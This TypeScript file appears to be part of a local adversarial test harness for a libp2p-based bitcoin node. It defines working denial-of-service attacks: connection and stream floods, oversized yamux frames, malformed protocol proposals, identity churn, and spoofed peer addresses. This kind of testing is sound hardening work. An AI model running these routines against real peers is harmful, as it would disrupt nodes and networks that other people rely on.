import { connect, type Socket } from 'node:net'
import { type Attack, type AttackContext, repeatedly } from './attack.ts'
import { subtree } from './payloads.ts'
import { type RawPeer, streamsEndedAtOnce, YAMUX, yamuxHeader } from './raw-peer.ts'

/** Attacks by connections and streams. */

const DIRECT = 'teranode/bitcoin/1.0.0'

/** Connections that never begin the handshake. */
export const silentSockets: Attack = async (context) => {
  const [, , , , port] = context.target.split('/')
  const sockets = new Set<Socket>()
  await repeatedly(context, 200, () => {
    const socket = connect({ port: Number(port), host: '127.0.0.1', localAddress: '127.0.0.66' })
    sockets.add(socket)
    socket.on('error', () => {}).on('close', () => sockets.delete(socket))
    context.count('sent')
  })
  for (const socket of sockets) socket.destroy()
}

/** Streams that never say which protocol they are for. */
export const streamFlood: Attack = async (context) => {
  const peer = await context.createPeer()
  await repeatedly(context, 500, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    await peer.createStream()
    context.count('sent')
  })
}

/** Streams that are ended as soon as they are opened. */
export const streamChurn: Attack = async (context) => {
  const peer = await context.createPeer()
  const count = 100
  let first = 1001
  await repeatedly(context, 10, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    await peer.sendFrames(streamsEndedAtOnce(first, count))
    first += 2 * count
    context.count('sent', count)
  })
}

/** A stream on which protocols are proposed that have no name, as fast as they are taken. */
export const endlessProposals: Attack = async (context) => {
  const peer = await context.createPeer()
  const proposals = Buffer.from('\u0001\n'.repeat(30_000))
  await repeatedly(context, 20, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    const stream = await peer.createStream()
    for (let part = 0; part < 4 && stream.status === 'open'; part++) {
      stream.send(proposals)
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
    context.count('sent')
    stream.abort(new Error('enough'))
  })
}

/** A frame of 2 GiB, as fast as it is taken; and again, on another connection. */
export const endlessFrame: Attack = async (context) => {
  const peer = await context.createPeer()
  const part = Buffer.alloc(256 << 10)
  await repeatedly(context, 200, async () => {
    if (!peer.isConnected) {
      await peer.connect(context.target)
      await peer.sendFrames(yamuxHeader({ type: YAMUX.data, flags: YAMUX.syn, stream: 1001, length: 2 ** 31 }))
    }
    await peer.sendFrames(part)
    context.count('sent')
  })
}

/** Frames for a stream that there is none, as fast as they are taken. */
export const emptyFrames: Attack = async (context) => {
  const peer = await context.createPeer()
  const count = 5000
  const frame = yamuxHeader({ type: YAMUX.windowUpdate, flags: 0, stream: 5001, length: 1 })
  const frames = Buffer.concat(Array.from({ length: count }, () => frame))
  await repeatedly(context, 200, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    await peer.sendFrames(frames)
    context.count('sent', count)
  })
}

/** A direct stream that never ends. */
export const endlessStream: Attack = async (context) => {
  const peer = await context.createPeer()
  await repeatedly(context, 50, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    const stream = await peer.connection.newStream(DIRECT, { signal: AbortSignal.timeout(5000) })
    context.count('sent')
    while (!context.stopped.aborted && stream.status === 'open') {
      if (!stream.send(Buffer.alloc(16 << 10, 0x20))) await stream.onDrain({ signal: context.stopped })
      await new Promise((resolve) => setImmediate(resolve))
    }
  })
}

/** Direct streams on which nothing is ever sent. */
export const silentStreams: Attack = async (context) => {
  const peer = await context.createPeer()
  await repeatedly(context, 100, async () => {
    if (!peer.isConnected) await peer.connect(context.target)
    await peer.connection.newStream(DIRECT, { signal: AbortSignal.timeout(5000) })
    context.count('sent')
  })
}

const IDENTITIES = 200

export const manyIdentities: Attack = async (context) => {
  const running: Promise<void>[] = []
  for (let made = 0; made < IDENTITIES && !context.stopped.aborted; made++) {
    running.push(comeAgain(context))
    await new Promise((resolve) => setTimeout(resolve, 10))
  }
  await Promise.all(running)
}

/** Says that it listens where an honest peer does, and drops its connection, so that somebody may look for it there. */
export const othersAddress: Attack = async (context) => {
  const peer = await context.createPeer({ announce: [context.honest, '/ip4/127.0.0.1/tcp/22', '/ip4/10.0.0.1/tcp/9905'] })
  await repeatedly(context, 2, async () => {
    if (!peer.isConnected) await peer.join(context.target, Object.values(context.topics))
    await new Promise((resolve) => setTimeout(resolve, 300))
    peer.connection.abort(new Error('gone'))
    context.count('sent')
  })
}

/** Comes again and again, and publishes. */
export const comeAgain: Attack = async (context: AttackContext) => {
  const peer = await context.createPeer()
  await repeatedly(context, 5, async () => {
    if (!peer.isConnected) await peer.join(context.target, Object.values(context.topics))
    await peer.publish(context.topics.subtree, subtree(peer.peerId))
    context.count('sent')
  })
}

/** The same under a new identity each time. */
export const newIdentities: Attack = async (context) => {
  let peer: RawPeer | undefined
  await repeatedly(context, 10, async () => {
    if (!peer?.isConnected) {
      await peer?.stop()
      peer = await context.createPeer()
      await peer.join(context.target, Object.values(context.topics))
    }
    await peer.publish(context.topics.subtree, subtree(peer.peerId))
    context.count('sent')
  })
}
